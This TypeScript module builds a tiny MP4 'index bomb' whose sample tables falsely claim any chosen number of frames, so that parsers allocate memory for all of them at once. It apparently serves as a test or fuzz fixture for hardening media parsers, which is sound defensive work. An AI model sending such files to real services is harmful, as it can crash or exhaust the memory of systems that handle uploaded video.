/**
 * An MP4 of 700 bytes whose header claims that it has as many frames as wished, each of one byte. Readers make room for all of
 * them at once.
 */
export function makeIndexBomb(frames: number): Buffer {
  const matrix = [0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000];
  const avcC = Buffer.from(
    '0142c01effe100196742c01ed90080099fe0220000030002000003003c1e2c5c9001000468cb8cb2',
    'hex',
  );
  const avc1 = box('avc1', [
    zeros(6),
    u16(1),
    zeros(16),
    u16(640, 360),
    u32(0x480000, 0x480000),
    zeros(4),
    u16(1),
    zeros(32),
    u16(24, 0xffff),
    box('avcC', [avcC]),
  ]);
  const stbl = box('stbl', [
    box('stsd', [u32(0, 1), avc1]),
    box('stts', [u32(0, 1, frames, 1)]),
    box('stsc', [u32(0, 1, 1, frames, 1)]),
    box('stsz', [u32(0, 1, frames)]),
    box('stco', [u32(0, 1, 48)]),
  ]);
  const dinf = box('dinf', [box('dref', [u32(0, 1), box('url ', [u32(1)])])]);
  const minf = box('minf', [box('vmhd', [u32(1), zeros(8)]), dinf, stbl]);
  const hdlr = box('hdlr', [zeros(8), Buffer.from('vide', 'latin1'), zeros(13)]);
  const mdhd = box('mdhd', [u32(0, 0, 0, 1000, frames), u16(0x55c4, 0)]);
  const tkhd = box('tkhd', [
    u32(3, 0, 0, 1, 0, frames),
    zeros(16),
    u32(...matrix),
    u32(640 << 16, 360 << 16),
  ]);
  const mvhd = box('mvhd', [
    u32(0, 0, 0, 1000, frames, 0x10000),
    u16(0x100),
    zeros(10),
    u32(...matrix),
    zeros(24),
    u32(2),
  ]);
  return Buffer.concat([
    box('ftyp', [Buffer.from('isom\0\0\x02\0isomiso2', 'latin1')]),
    box('mdat', [zeros(64)]),
    box('moov', [mvhd, box('trak', [tkhd, box('mdia', [mdhd, hdlr, minf])])]),
  ]);
}

function box(type: string, parts: readonly Buffer[]): Buffer {
  const body = Buffer.concat(parts);
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, 'latin1'), body]);
}

function u16(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 2);
  values.forEach((value, index) => bytes.writeUInt16BE(value, index * 2));
  return bytes;
}

function u32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, index) => bytes.writeUInt32BE(value, index * 4));
  return bytes;
}

function zeros(length: number): Buffer {
  return Buffer.alloc(length);
}
